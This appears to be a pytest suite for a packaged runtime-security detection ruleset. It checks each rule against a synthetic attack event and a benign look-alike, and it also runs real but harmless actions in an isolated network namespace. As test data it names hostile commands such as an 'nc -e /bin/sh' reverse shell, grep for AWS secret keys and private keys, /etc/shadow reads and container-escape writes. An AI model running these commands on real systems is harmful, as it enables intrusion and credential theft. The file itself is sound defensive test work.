"""The packaged ruleset, preload/rules/default_rules.yaml.

It loads with no problems; every rule has a priority, a MITRE ATT&CK tactic tag and a technique;
the rules we promise are all there, and the only one skipped is the one that needs a field we
lack. Then each rule meets the behaviour it names (it must fire) and a look-alike (it must not):

- on synthetic events through Ruleset.evaluate: fast, exact, and the only way for the rules
  written for events the agent does not report yet;
- as the real action under `preload run`, read back from STATE_DIR/alerts.jsonl. Programs named
  like the tools the rules look for (nc, nmap, apt-get, nginx, sshd) are symlinks to harmless
  ones (true, sh, python); the calls of other kinds (links, chmod, ptrace, packet sockets,
  modules, memfd) come from a C program built here twice, static for the tracer to report them
  and dynamic for the hook; connections are made in a
  network namespace of the run's own, so nothing leaves the machine. A look-alike's run must
  show the event the rule looked at, so that its silence means something.

The rules that cannot fire yet (a field or an event the agent does not report) have their real
action as a strict xfail: when the agent learns to report it, the test says so.
"""
import json
import os
import pty
import re
import select
import shutil
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest

import preload.rules
from agent import PRELOAD
from preload.rules import FIELDS, PRIORITIES, EventFields, load_rules, render_output
from tools import need

RULES = os.path.join(os.path.dirname(preload.rules.__file__), "default_rules.yaml")
RUN_TIMEOUT = 60

EXPECTED_RULES = [
    "Read sensitive file untrusted",
    "Read sensitive file trusted after startup",
    "Directory traversal monitored file read",
    "Run shell untrusted",
    "Terminal shell in container",
    "System user interactive",
    "Netcat Remote Code Execution in Container",
    "Search Private Keys or Passwords",
    "Find AWS Credentials",
    "Clear Log Activities",
    "Remove Bulk Data from Disk",
    "Create Symlink Over Sensitive Files",
    "Create Hardlink Over Sensitive Files",
    "Packet socket created in container",
    "Redirect STDOUT/STDIN to Network Connection in Container",
    "PTRACE attached to process",
    "PTRACE anti-debug attempt",
    "Execution from /dev/shm",
    "Drop and execute new binary in container",
    "Fileless execution via memfd_create",
    "Disallowed SSH Connection Non Standard Port",
    "Linux Kernel Module Injection Detected",
    "Detect release_agent File Container Escapes",
    "Contact K8S API Server From Container",
    "Contact cloud metadata service from container",
    "Launch Package Management Process in Container",
    "Write below etc",
    "Write below binary dir",
    "Modify binary dirs",
    "Set Setuid or Setgid bit",
    "Detect outbound connections to common miner pool ports",
    "Detect crypto miners using the Stratum protocol",
    "Launch Suspicious Network Tool in Container",
    "Tamper with ld.so.preload",
    "Exec with agent hook removed",
]
# rule -> the field it needs that the engine does not provide
SKIPPED = {"Directory traversal monitored file read": "fd.nameraw"}
TECHNIQUE = re.compile(r"T(A)?\d{4}(\.\d{3})?")


@pytest.fixture(scope="module")
def ruleset():
    return load_rules([RULES])


def by_name(rs, name):
    [rule] = [r for r in rs.rules if r.name == name]
    return rule


# -- the file ----------------------------------------------------------------------------------

def test_default_rules_load_without_problems(ruleset):
    assert [str(p) for p in ruleset.problems] == []
    assert [str(n) for n in ruleset.notes] == []


def test_only_the_rule_that_needs_a_field_we_lack_is_skipped(ruleset):
    skipped = {rule.name: reason for rule, reason in ruleset.skipped}
    assert set(skipped) == set(SKIPPED)
    for name, field in SKIPPED.items():
        assert f"unknown field {field!r}" in skipped[name]
    assert not ruleset.disabled
    assert len(ruleset.active) == len(ruleset.rules) - len(SKIPPED)


def test_the_expected_rules_are_all_there(ruleset):
    names = [r.name for r in ruleset.rules]
    assert sorted(names) == sorted(EXPECTED_RULES)
    assert len(set(names)) == len(names)


@pytest.mark.parametrize("name", EXPECTED_RULES)
def test_every_rule_has_a_priority_a_mitre_tactic_and_technique_a_desc_and_an_output(ruleset, name):
    rule = by_name(ruleset, name)
    assert rule.priority in PRIORITIES
    assert any(t.startswith("mitre_") for t in rule.tags), rule.tags
    assert any(TECHNIQUE.fullmatch(t) for t in rule.tags), rule.tags
    assert rule.desc.strip() and rule.output.strip()


def test_every_rule_is_indexed_by_the_event_types_it_can_match(ruleset):
    # a rule for "any type" would be run on every event: none of ours is
    assert [r.name for r in ruleset.active if r.evt_types is None] == []


def test_preload_rules_check_accepts_the_packaged_file(tmp_path):
    r = subprocess.run(PRELOAD + ["rules", "check", RULES], capture_output=True, text=True,
                       timeout=RUN_TIMEOUT)
    assert r.returncode == 0, r.stdout + r.stderr
    assert f"{len(EXPECTED_RULES) - len(SKIPPED)} rules active, {len(SKIPPED)} skipped" in r.stdout
    assert "0 problems" in r.stdout
    assert "skipped: Directory traversal monitored file read" in r.stdout


def test_preload_rules_list_shows_the_packaged_rules():
    r = subprocess.run(PRELOAD + ["rules", "list", "--format", "json"], capture_output=True,
                       text=True, timeout=RUN_TIMEOUT)
    assert r.returncode == 0, r.stderr
    rows = {row["rule"]: row for row in json.loads(r.stdout)}
    assert sorted(rows) == sorted(EXPECTED_RULES)
    assert {n for n, row in rows.items() if row["state"] != "active"} == set(SKIPPED)


# -- synthetic events --------------------------------------------------------------------------

SOURCE = EventFields(lambda event: event.get("_ancestors", []))


def ev(evt_type, name="app", fields=None, *, args="", exepath=None, pname="python3",
       pexepath="/usr/bin/python3.11", pcmdline=None, ancestors=(), uid=0, user="root",
       cwd="/srv"):
    """An event of `name` (pid 200, parent pid 100 named `pname`, then `ancestors`), as the
    daemon writes it, with the fields the alerter derives (user.name, container.id) filled in."""
    event = {
        "time": "2026-01-01T00:00:00.000000000Z", "evt.type": evt_type, "evt.source": "preload",
        "proc.pid": 200, "proc.ppid": 100, "proc.name": name,
        "proc.exepath": exepath or f"/usr/bin/{name}", "proc.args": args,
        "proc.cmdline": f"{name} {args}".strip(), "proc.cwd": cwd, "proc.pname": pname,
        "proc.pexepath": pexepath, "proc.pcmdline": pcmdline or pname, "user.uid": uid,
        "user.name": user, "container.id": "host", "preload.stream": "s", "preload.seq": 2,
        "_ancestors": [(100, pname), *ancestors],
    }
    event.update(fields or {})
    return event


def spawned(name, args="", fields=None, **kw):
    return ev("execve", name, {"evt.dir": "<", "evt.res": "SUCCESS",
                               "preload.argv": [name, *args.split()], **(fields or {})},
              args=args, **kw)


def opened(path, flags="O_RDONLY", name="cat", res="SUCCESS", fields=None, **kw):
    mode = flags.split("|")[0]
    directory, _, filename = path.rpartition("/")
    return ev("openat", name, {
        "fd.name": path, "fd.directory": directory or "/", "fd.filename": filename,
        "fd.typechar": "f", "fd.num": 3 if res == "SUCCESS" else -1, "evt.res": res,
        "evt.arg.flags": flags, "evt.is_open_read": mode in ("O_RDONLY", "O_RDWR"),
        "evt.is_open_write": mode in ("O_WRONLY", "O_RDWR"), **(fields or {})}, **kw)


def connected(ip, port, name="curl", res="SUCCESS", **kw):
    v6 = ":" in ip
    return ev("connect", name, {
        "evt.res": res, "fd.num": 3, "fd.typechar": "6" if v6 else "4",
        "fd.type": "ipv6" if v6 else "ipv4", "fd.l4proto": "tcp", "fd.lip": "172.17.0.2",
        "fd.lport": 40000, "fd.rip": ip, "fd.rport": port, "fd.cip": "172.17.0.2",
        "fd.cport": 40000, "fd.sip": ip, "fd.sport": port,
        "fd.name": f"172.17.0.2:40000->{ip}:{port}"}, **kw)


def called(evt_type, args, name="ops", res="SUCCESS", fields=None, **kw):
    """A call the tracer reports: evt.arg.* from `args`, fs.path.* as the daemon adds them."""
    event = {"evt.source": "ptrace", "evt.res": res}
    event.update({f"evt.arg.{k}": v for k, v in args.items()})
    paths = {"path": "fs.path.name", "name": "fs.path.name", "filename": "fs.path.name",
             "oldpath": "fs.path.source", "newpath": "fs.path.target",
             "target": "fs.path.source", "linkpath": "fs.path.target"}
    event.update({paths[k]: v for k, v in args.items() if k in paths})
    event.update(fields or {})
    return ev(evt_type, name, event, **kw)


# rule -> (an event it must fire on, a look-alike it must not fire on)
CASES = {
    "Read sensitive file untrusted": (
        opened("/etc/shadow", name="cat"),
        opened("/etc/shadow", name="sudo")),
    "Read sensitive file trusted after startup": (
        opened("/etc/shadow", name="nginx", fields={"proc.duration": 6_000_000_000}),
        opened("/etc/shadow", name="nginx", fields={"proc.duration": 1_000_000_000})),
    "Directory traversal monitored file read": (
        opened("/etc/passwd", name="php", pname="nginx",
               fields={"fd.nameraw": "/var/www/html/../../../etc/passwd"}),
        opened("/etc/passwd", name="php", pname="nginx", fields={"fd.nameraw": "/etc/passwd"})),
    "Run shell untrusted": (
        spawned("sh", "-c id", pname="nginx"),
        spawned("sh", "-c id", pname="bash")),
    "Terminal shell in container": (
        spawned("bash", pname="runc", fields={"proc.tty": 34816}),
        spawned("bash", pname="runc", fields={"proc.tty": 0})),
    "System user interactive": (
        spawned("id", uid=1, user="daemon", pname="bash", ancestors=[(50, "sshd")]),
        spawned("id", uid=0, user="root", pname="bash", ancestors=[(50, "sshd")])),
    "Netcat Remote Code Execution in Container": (
        spawned("nc", "-e /bin/sh 198.51.100.1 4444"),
        spawned("nc", "-z 198.51.100.1 4444")),
    "Search Private Keys or Passwords": (
        spawned("grep", "-r BEGIN RSA PRIVATE /home"),
        spawned("grep", "-r BEGIN CERTIFICATE /home")),
    "Find AWS Credentials": (
        spawned("grep", "-ri aws_secret_access_key /root"),
        spawned("grep", "-ri aws_region /root")),
    "Clear Log Activities": (
        opened("/var/log/syslog", "O_WRONLY|O_CREAT|O_TRUNC", name="sh"),
        opened("/var/log/syslog", "O_WRONLY|O_CREAT|O_APPEND", name="sh")),
    "Remove Bulk Data from Disk": (
        spawned("shred", "-u /data/db"),
        spawned("rm", "/data/db")),
    "Create Symlink Over Sensitive Files": (
        called("symlink", {"target": "/etc/shadow", "linkpath": "/tmp/s"}),
        called("symlink", {"target": "/etc/hostname", "linkpath": "/tmp/s"})),
    "Create Hardlink Over Sensitive Files": (
        called("link", {"oldpath": "/etc/shadow", "newpath": "/tmp/s"}),
        called("link", {"oldpath": "/etc/hostname", "newpath": "/tmp/s"})),
    "Packet socket created in container": (
        called("socket", {"domain": "AF_PACKET", "type": 3, "proto": 0}),
        called("socket", {"domain": "AF_INET", "type": 3, "proto": 0})),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        ev("dup2", "bash", {"evt.res": "SUCCESS", "evt.rawres": 1, "fd.num": 3, "fd.type": "ipv4",
                            "fd.typechar": "4", "fd.name": "172.17.0.2:40000->198.51.100.1:4444"}),
        ev("dup2", "bash", {"evt.res": "SUCCESS", "evt.rawres": 1, "fd.num": 3, "fd.type": "file",
                            "fd.typechar": "f", "fd.name": "/tmp/out"})),
    "PTRACE attached to process": (
        called("ptrace", {"request": "PTRACE_ATTACH", "pid": 1}),
        called("ptrace", {"request": "PTRACE_DETACH", "pid": 1})),
    "PTRACE anti-debug attempt": (
        called("ptrace", {"request": "PTRACE_TRACEME", "pid": 0}),
        called("ptrace", {"request": "PTRACE_ATTACH", "pid": 1})),
    "Execution from /dev/shm": (
        spawned("x", exepath="/dev/shm/x", cwd="/dev/shm"),
        spawned("x", exepath="/usr/bin/x", cwd="/dev/shm")),
    "Drop and execute new binary in container": (
        spawned("kworker", exepath="/tmp/kworker"),
        spawned("kworker", exepath="/usr/bin/kworker")),
    "Fileless execution via memfd_create": (
        spawned("payload", exepath="/memfd:payload (deleted)"),
        spawned("payload", exepath="/usr/bin/payload")),
    "Disallowed SSH Connection Non Standard Port": (
        connected("203.0.113.7", 443, name="ssh", exepath="/usr/bin/ssh"),
        connected("203.0.113.7", 22, name="ssh", exepath="/usr/bin/ssh")),
    "Linux Kernel Module Injection Detected": (
        called("init_module", {"length": 64, "uargs": ""}, res="EPERM"),
        called("memfd_create", {"name": "x", "flags": 1})),
    "Detect release_agent File Container Escapes": (
        opened("/sys/fs/cgroup/rdma/release_agent", "O_WRONLY|O_CREAT|O_TRUNC", name="sh"),
        opened("/sys/fs/cgroup/rdma/notify_on_release", "O_WRONLY|O_CREAT|O_TRUNC", name="sh")),
    "Contact K8S API Server From Container": (
        connected("10.96.0.1", 443),
        connected("10.96.0.1", 80)),
    "Contact cloud metadata service from container": (
        connected("169.254.169.254", 80, name="python3", res="ETIMEDOUT"),
        connected("169.254.169.254", 80, name="cloud-init")),
    "Launch Package Management Process in Container": (
        spawned("apt-get", "install -y nmap"),
        spawned("apt-get", "install -y nmap", pname="dpkg")),
    "Write below etc": (
        opened("/etc/passwd", "O_WRONLY|O_APPEND", name="python3"),
        opened("/etc/passwd", "O_WRONLY|O_APPEND", name="useradd")),
    "Write below binary dir": (
        opened("/usr/bin/kworker", "O_WRONLY|O_CREAT|O_TRUNC", name="curl"),
        opened("/usr/bin/kworker", "O_WRONLY|O_CREAT|O_TRUNC", name="apt-get")),
    "Modify binary dirs": (
        called("rename", {"oldpath": "/tmp/x", "newpath": "/usr/bin/ls"}),
        called("rename", {"oldpath": "/tmp/x", "newpath": "/tmp/y"})),
    "Set Setuid or Setgid bit": (
        called("chmod", {"filename": "/tmp/x", "mode": 0o4755}),
        called("chmod", {"filename": "/tmp/x", "mode": 0o755})),
    "Detect outbound connections to common miner pool ports": (
        connected("203.0.113.7", 3333, name="kworker"),
        connected("10.1.2.3", 3333, name="kworker")),
    "Detect crypto miners using the Stratum protocol": (
        spawned("xmrig", "-o stratum+tcp://pool.example.com:3333"),
        spawned("xmrig", "-o https://pool.example.com")),
    "Launch Suspicious Network Tool in Container": (
        spawned("nmap", "-sS 10.0.0.0/24"),
        spawned("curl", "-s https://example.com")),
    "Tamper with ld.so.preload": (
        opened("/etc/ld.so.preload", "O_WRONLY", name="python3", res="ENOENT"),
        opened("/etc/ld.so.preload", "O_RDONLY", name="python3", res="ENOENT")),
    "Exec with agent hook removed": (
        ev("preload.hook_removed", "env",
           {"evt.arg.filename": "/bin/true", "preload.argv": ["true"]}),
        spawned("env", "-u LD_PRELOAD /bin/true")),
}


@pytest.fixture(scope="module")
def ruleset_with_every_field():
    """The file loaded by an engine that also has the fields the rules skipped for lack of."""
    return load_rules([RULES], fields=FIELDS | set(SKIPPED.values()))


def _fires(rs, name, event):
    return name in [r.name for r in rs.evaluate(event, SOURCE)]


def test_every_rule_has_a_synthetic_case(ruleset):
    assert sorted(CASES) == sorted(r.name for r in ruleset.rules)


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_fires_on_its_behaviour(ruleset, ruleset_with_every_field, name):
    rs = ruleset_with_every_field if name in SKIPPED else ruleset
    assert _fires(rs, name, CASES[name][0])


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_does_not_fire_on_its_look_alike(ruleset, ruleset_with_every_field, name):
    rs = ruleset_with_every_field if name in SKIPPED else ruleset
    assert not _fires(rs, name, CASES[name][1])


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_output_names_only_fields_that_render(ruleset_with_every_field, name):
    rule = by_name(ruleset_with_every_field, name)
    text = render_output(rule.output, CASES[name][0], SOURCE)
    assert "%" not in text


# the programs whose calls the hook does not report, recognised when they start
COMMAND_CASES = [
    ("Create Symlink Over Sensitive Files", spawned("ln", "-s /etc/shadow /tmp/s"), True),
    ("Create Symlink Over Sensitive Files", spawned("ln", "-sf /etc/ /tmp/s"), True),
    ("Create Symlink Over Sensitive Files", spawned("ln", "-s /etc/hostname /tmp/s"), False),
    ("Create Symlink Over Sensitive Files", spawned("ln", "/etc/shadow /tmp/s"), False),
    ("Create Hardlink Over Sensitive Files", spawned("ln", "/etc/shadow /tmp/s"), True),
    ("Create Hardlink Over Sensitive Files", spawned("ln", "-s /etc/shadow /tmp/s"), False),
    ("Create Hardlink Over Sensitive Files", spawned("ln", "/etc/hostname /tmp/s"), False),
    ("Set Setuid or Setgid bit", spawned("chmod", "u+s /tmp/x"), True),
    ("Set Setuid or Setgid bit", spawned("chmod", "u=rwx,g+s /tmp/x"), True),
    ("Set Setuid or Setgid bit", spawned("chmod", "-R 4755 /tmp/x"), True),
    ("Set Setuid or Setgid bit", spawned("chmod", "02755 /tmp/x"), True),
    ("Set Setuid or Setgid bit", spawned("chmod", "755 /tmp/x"), False),
    ("Set Setuid or Setgid bit", spawned("chmod", "1777 /tmp"), False),
    ("Set Setuid or Setgid bit", spawned("chmod", "g-s /tmp/x"), False),
    ("Linux Kernel Module Injection Detected", spawned("insmod", "/tmp/rootkit.ko"), True),
    ("Linux Kernel Module Injection Detected", spawned("modprobe", "nf_tables"), True),
    ("Linux Kernel Module Injection Detected", spawned("modprobe", "-r nf_tables"), False),
    ("Modify binary dirs", spawned("mv", "/tmp/x /usr/bin/ls"), True),
    ("Modify binary dirs", spawned("rm", "-f /usr/local/bin/agent"), True),
    ("Modify binary dirs", spawned("rm", "/tmp/usr/bin/x"), False),
    ("Modify binary dirs", spawned("rm", "/usr/bin/x", pname="dpkg"), False),
]


@pytest.mark.parametrize("name, event, fires", COMMAND_CASES,
                         ids=[f"{n}-{e['proc.cmdline']}" for n, e, _ in COMMAND_CASES])
def test_commands_that_make_the_calls_the_hook_does_not_report(ruleset, name, event, fires):
    assert _fires(ruleset, name, event) is fires


@pytest.mark.parametrize("mode", [0o4000, 0o2000, 0o6755, 0o4755, 0o2711, 0o7777,
                                  0o104755, 0o100000 | 0o2755, 0o177777])
def test_setuid_or_setgid_in_any_mode_the_kernel_keeps_fires(ruleset, mode):
    # 0o104755 is S_IFREG|04755: the kernel keeps the 12 low bits, so the suid bit is set
    assert _fires(ruleset, "Set Setuid or Setgid bit",
                  called("fchmodat", {"filename": "/tmp/x", "mode": mode}))


@pytest.mark.parametrize("mode", [0, 0o755, 0o1777, 0o777, 0o100755, 0o170777])
def test_modes_without_setuid_or_setgid_do_not_fire(ruleset, mode):
    assert not _fires(ruleset, "Set Setuid or Setgid bit",
                      called("chmod", {"filename": "/tmp/x", "mode": mode}))


@pytest.mark.parametrize("ip", ["127.0.0.1", "10.0.0.9", "172.16.0.1", "172.31.255.1",
                                "192.168.1.1", "0.0.0.0", "::1"])
def test_private_and_local_servers_are_not_outbound(ruleset, ip):
    assert not _fires(ruleset, "Disallowed SSH Connection Non Standard Port",
                      connected(ip, 443, name="ssh"))
    assert not _fires(ruleset, "Detect outbound connections to common miner pool ports",
                      connected(ip, 3333))


@pytest.mark.parametrize("ip", ["172.15.0.1", "172.32.0.1", "8.8.8.8", "2001:db8::1"])
def test_public_servers_are_outbound(ruleset, ip):
    assert _fires(ruleset, "Disallowed SSH Connection Non Standard Port",
                  connected(ip, 443, name="ssh"))


@pytest.mark.parametrize("res, fires", [("SUCCESS", True), ("EINPROGRESS", True),
                                        ("ECONNREFUSED", False), ("ENETUNREACH", False)])
def test_outbound_ssh_is_a_connection_made_or_under_way(ruleset, res, fires):
    assert _fires(ruleset, "Disallowed SSH Connection Non Standard Port",
                  connected("203.0.113.7", 443, name="ssh", res=res)) is fires


def test_a_failed_exec_is_not_a_spawned_process(ruleset):
    # proc.* of a failed exec are the caller's: the shell that tried to run /tmp/x is not /tmp/x
    failed = spawned("kworker", exepath="/tmp/kworker", fields={"evt.res": "ENOENT"})
    assert not _fires(ruleset, "Drop and execute new binary in container", failed)


def test_trusted_program_of_unknown_age_is_not_after_startup(ruleset):
    assert not _fires(ruleset, "Read sensitive file trusted after startup",
                      opened("/etc/shadow", name="nginx"))


def test_container_rules_fire_whatever_container_id_says(ruleset):
    for container_id in ("host", "0123456789ab", None):
        event = spawned("nmap", "-sS 10.0.0.0/24", fields={"container.id": container_id})
        assert _fires(ruleset, "Launch Suspicious Network Tool in Container", event)


def test_protected_ancestor_is_enough_for_run_shell_untrusted(ruleset):
    # nginx -> php-fpm -> sh: the shell's parent is not protected, its grandparent is
    event = spawned("sh", "-c id", pname="php-fpm", ancestors=[(50, "nginx")])
    assert _fires(ruleset, "Run shell untrusted", event)


# -- real actions under `preload run` ------------------------------------------------------------

# ops OP ARGS...: one call, for the tracer (static build) or the hook (dynamic build) to report
OPS_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static int done(const char *op, long r)
{
    printf("%s %ld\n", op, r);
    return 0;
}

/* a child to ptrace: it waits for its end */
static int ptrace_child(const char *op, enum __ptrace_request request)
{
    pid_t child = fork();
    if (child == 0) {
        pause();
        _exit(0);
    }
    long r = ptrace(request, child, NULL, NULL);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return done(op, r);
}

int main(int argc, char **argv)
{
    if (argc < 2) return 2;
    const char *op = argv[1];
    if (!strcmp(op, "symlink") && argc == 4) return done(op, symlink(argv[2], argv[3]));
    if (!strcmp(op, "link") && argc == 4) return done(op, link(argv[2], argv[3]));
    if (!strcmp(op, "unlink") && argc == 3) return done(op, unlink(argv[2]));
    if (!strcmp(op, "chmod") && argc == 4)
        return done(op, chmod(argv[2], (mode_t)strtoul(argv[3], NULL, 8)));
    if (!strcmp(op, "socket") && argc == 3) {
        /* both raw: the hook records no other kind */
        int s = strcmp(argv[2], "packet") == 0 ? socket(AF_PACKET, SOCK_RAW, 0)
                                               : socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
        if (s >= 0) close(s);
        return done(op, s);
    }
    if (!strcmp(op, "traceme")) return done(op, ptrace(PTRACE_TRACEME, 0, NULL, NULL));
    if (!strcmp(op, "attach")) return ptrace_child(op, PTRACE_ATTACH);
    if (!strcmp(op, "detach")) return ptrace_child(op, PTRACE_DETACH);
    if (!strcmp(op, "init_module")) {
        /* not an ELF image: the kernel refuses it whatever our privileges */
        static char junk[64] = "not a kernel module";
        return done(op, syscall(SYS_init_module, junk, sizeof junk, ""));
    }
    if (!strcmp(op, "memfd")) return done(op, memfd_create("scratch", MFD_CLOEXEC));
    if (!strcmp(op, "memfd-exec") && argc >= 3) {
        int in = open(argv[2], O_RDONLY | O_CLOEXEC);
        int mem = memfd_create("payload", MFD_CLOEXEC);
        char buf[65536];
        ssize_t n;
        if (in < 0 || mem < 0) return 126;
        while ((n = read(in, buf, sizeof buf)) > 0)
            if (write(mem, buf, (size_t)n) != n) return 126;
        fexecve(mem, argv + 2, environ);
        return 126;
    }
    if (!strcmp(op, "exec") && argc >= 3) {
        execv(argv[2], argv + 2);
        return 126;
    }
    return 2;
}
"""

# connect.py HOST PORT [listen]: one TCP connect (with a listener first when asked), 0.3 s at most
CONNECT_PY = """
import socket, sys
host, port = sys.argv[1], int(sys.argv[2])
if sys.argv[3:] == ["listen"]:
    server = socket.socket()
    server.bind((host, port))
    server.listen()
client = socket.socket()
client.settimeout(0.3)
try:
    client.connect((host, port))
    print("connected")
except OSError as e:
    print("connect:", e)
"""

# python -c NETNS ADDRESS... -- COMMAND...: COMMAND in a network namespace of its own, with only
# lo, up, and ADDRESS... on it (/32 each). Done with ioctls: no iproute2 needed.
NETNS = """
import ctypes, fcntl, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x40000000) != 0:  # CLONE_NEWNET
    sys.exit("unshare(CLONE_NEWNET): " + os.strerror(ctypes.get_errno()))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ifreq = lambda name, data: struct.pack("16s16s", name.encode(), data)
addr = lambda ip: struct.pack("HH4s8s", socket.AF_INET, 0, socket.inet_aton(ip), b"")
flags = struct.unpack("H", fcntl.ioctl(s, 0x8913, ifreq("lo", b""))[16:18])[0]  # SIOCGIFFLAGS
fcntl.ioctl(s, 0x8914, ifreq("lo", struct.pack("H", flags | 1)))  # SIOCSIFFLAGS, IFF_UP
args = sys.argv[1:]
cut = args.index("--")
for i, ip in enumerate(args[:cut]):
    fcntl.ioctl(s, 0x8916, ifreq(f"lo:{i}", addr(ip)))  # SIOCSIFADDR
    fcntl.ioctl(s, 0x891C, ifreq(f"lo:{i}", addr("255.255.255.255")))  # SIOCSIFNETMASK
os.execvp(args[cut + 1], args[cut + 1:])
"""
PUBLIC = "203.0.113.7"  # TEST-NET-3: public-looking, and ours alone inside the namespace


class Run:
    """One `preload run`: its result, events and alerts."""

    def __init__(self, state, completed):
        self.state = Path(state)
        self.returncode, self.stdout, self.stderr = (completed.returncode, completed.stdout,
                                                     completed.stderr)
        self.events = self._jsonl("events.jsonl")
        self.alerts = self._jsonl("alerts.jsonl")

    def _jsonl(self, name):
        path = self.state / name
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []

    def fired(self, rule, **where):
        """Alerts of `rule` whose output fields have the values in `where` (dots as __)."""
        want = {k.replace("__", "."): v for k, v in where.items()}
        return [a for a in self.alerts if a["rule"] == rule
                and all(a["output_fields"].get(k) == v for k, v in want.items())]

    def saw(self, evt_type, **where):
        """Events of this type with these field values (dots as __)."""
        want = {k.replace("__", "."): v for k, v in where.items()}
        return [e for e in self.events if e["evt.type"] == evt_type
                and all(e.get(k) == v for k, v in want.items())]

    def __repr__(self):
        rules = sorted({a["rule"] for a in self.alerts})
        return f"<run rc={self.returncode} alerts={rules} stderr={self.stderr[-2000:]!r}>"


def _env(state, extra_path=None, base=None):
    env = dict(base or os.environ, PRELOAD_STATE_DIR=str(state), PRELOAD_ALERTS_STDERR="0")
    if extra_path:
        env["PATH"] = f"{extra_path}:{env.get('PATH', '/usr/bin:/bin')}"
    return env


def agent(tmp_path, argv, *, path=None, cwd=None, netns=None, state=None):
    """`preload run -- ARGV` (in a network namespace with the addresses `netns` when given);
    `path` goes first on PATH."""
    state = state or tmp_path / "state"
    cmd = PRELOAD + ["run", "--", *map(str, argv)]
    if netns is not None:
        cmd = [sys.executable, "-c", NETNS, *netns, "--", *cmd]
    completed = subprocess.run(cmd, env=_env(state, path), cwd=cwd, capture_output=True,
                               text=True, timeout=RUN_TIMEOUT, stdin=subprocess.DEVNULL)
    return Run(state, completed)


def agent_on_terminal(tmp_path, argv):
    """`preload run -- ARGV` with a pseudo-terminal as its controlling terminal."""
    state = tmp_path / "state"
    master, slave = pty.openpty()

    def take_terminal():  # the new session's leader takes the terminal as its controlling one
        import fcntl
        import termios
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    proc = subprocess.Popen(PRELOAD + ["run", "--", *argv], stdin=slave, stdout=slave,
                            stderr=slave, env=_env(state), start_new_session=True,
                            preexec_fn=take_terminal)
    os.close(slave)
    output, deadline = b"", time.monotonic() + RUN_TIMEOUT
    try:
        while time.monotonic() < deadline:
            if select.select([master], [], [], 0.5)[0]:
                try:
                    data = os.read(master, 4096)
                except OSError:  # EIO: every holder of the terminal is gone
                    break
                if not data:
                    break
                output += data
            elif proc.poll() is not None:
                break
        else:
            proc.kill()
            pytest.fail(f"{argv} hung on its terminal: {output!r}")
        proc.wait(timeout=RUN_TIMEOUT)
    finally:
        os.close(master)
    return Run(state, subprocess.CompletedProcess(proc.args, proc.returncode, output.decode(), ""))


def fake(tmp_path, name, target="/bin/true"):
    """bin/NAME, a symlink to `target`: a program whose proc.name is NAME."""
    directory = tmp_path / "bin"
    directory.mkdir(exist_ok=True)
    link = directory / name
    link.symlink_to(os.path.realpath(target))
    return str(link)


@pytest.fixture(scope="session", params=["static", "dynamic"])
def ops(request, tmp_path_factory):
    """The ops program, static (the tracer reports its calls) or dynamic (the hook does)."""
    need("gcc", "gcc")
    directory = tmp_path_factory.mktemp("ops")
    source = directory / "ops.c"
    source.write_text(OPS_C)
    exe = directory / "ops"
    static = ["-static"] if request.param == "static" else []
    r = subprocess.run(["gcc", *static, "-O1", "-Wall", "-o", str(exe), str(source)],
                       capture_output=True, text=True)
    if r.returncode:
        pytest.fail(f"compiling ops.c failed:\n{r.stderr}")
    return str(exe)


@pytest.fixture(scope="session")
def connect_py(tmp_path_factory):
    path = tmp_path_factory.mktemp("net") / "connect.py"
    path.write_text(CONNECT_PY)
    return str(path)


@pytest.fixture
def shared_dir():
    """A directory every user can reach (pytest's own are root's alone): for a run whose
    processes drop to another uid and must still reach the agent's socket."""
    directory = tempfile.mkdtemp(prefix="preload-rules-", dir="/tmp")
    os.chmod(directory, 0o755)
    yield Path(directory)
    shutil.rmtree(directory, ignore_errors=True)


def check(run, rule, fires, **where):
    """`rule` fired (for the process `where` names) or did not."""
    alerts = run.fired(rule, **where)
    if fires:
        assert alerts, run
    else:
        assert not alerts, alerts


# files

@pytest.mark.parametrize("command, fires", [("cat /etc/shadow > /dev/null", True),
                                            ("read line < /etc/shadow; true", False)],
                         ids=["cat", "shell-builtin-read"])
def test_real_read_sensitive_file_untrusted(tmp_path, command, fires):
    run = agent(tmp_path, ["sh", "-c", command])
    check(run, "Read sensitive file untrusted", fires)
    assert run.saw("open", fd__name="/etc/shadow") or run.saw("openat", fd__name="/etc/shadow")
    if fires:
        [alert] = run.fired("Read sensitive file untrusted")
        assert set(alert) == {"time", "rule", "priority", "output", "output_fields", "source",
                              "tags", "hostname"}
        assert alert["priority"] == "Warning" and alert["source"] == "syscall"
        assert alert["output_fields"]["proc.name"] == "cat"
        assert "mitre_credential_access" in alert["tags"]


@pytest.mark.parametrize("pause, fires", [("sleep 5.5; ", True), ("", False)],
                         ids=["after-5s", "at-startup"])
def test_real_read_sensitive_file_trusted_after_startup(tmp_path, pause, fires):
    nginx = fake(tmp_path, "nginx", "/bin/sh")
    run = agent(tmp_path, [nginx, "-c", f"{pause}read line < /etc/shadow; true"])
    check(run, "Read sensitive file trusted after startup", fires, proc__name="nginx")
    assert run.fired("Read sensitive file untrusted", proc__name="nginx")  # seen, and untrusted


@pytest.mark.xfail(strict=True, reason="the hook reports fd.name normalised; the rule needs "
                                       "fd.nameraw, so the engine skips it")
def test_real_directory_traversal_monitored_file_read(tmp_path):
    deep = tmp_path / "www" / "html" / "app"
    deep.mkdir(parents=True)
    run = agent(tmp_path, ["cat", "../" * 12 + "etc/passwd"], cwd=deep)
    assert run.saw("open", fd__name="/etc/passwd") or run.saw("openat", fd__name="/etc/passwd")
    check(run, "Directory traversal monitored file read", True)


def test_real_plain_read_below_etc_is_no_directory_traversal(tmp_path):
    run = agent(tmp_path, ["cat", "/etc/passwd"])
